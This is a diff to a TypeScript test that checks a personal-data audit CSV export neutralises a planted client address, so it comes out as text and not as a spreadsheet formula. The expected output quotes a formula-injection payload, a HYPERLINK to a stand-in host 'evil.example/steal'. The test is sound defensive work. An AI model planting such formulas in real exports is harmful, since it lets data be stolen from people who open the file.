@@ -235,12 +235,19 @@ test('a planted client address comes out of the CSV as text, not a formula', asy
       [CLIENT_ADDRESS_HEADER]: planted,
     },
   );
+  // The administrator's centre has no relationship with this person: it asks for access first.
+  await harness.request(admin, REQUEST_ACCESS, {
+    subject: { personId: person.id },
+    reason: 'Проверка выгрузки журнала',
+  });
   const { data } = await harness.request(
     admin,
     'query($subject: PersonalDataSubjectInput!) { personalDataAuditCsv(subject: $subject) }',
     { subject: { personId: person.id } },
   );
-  const [, row] = (data!['personalDataAuditCsv'] as string).split('\r\n');
+  const row = (data!['personalDataAuditCsv'] as string)
+    .split('\r\n')
+    .find((line) => line.includes('HYPERLINK'));
   expect(row!.endsWith(`;"'=HYPERLINK(""http://evil.example/steal"")"`)).toBe(true);
 });
 
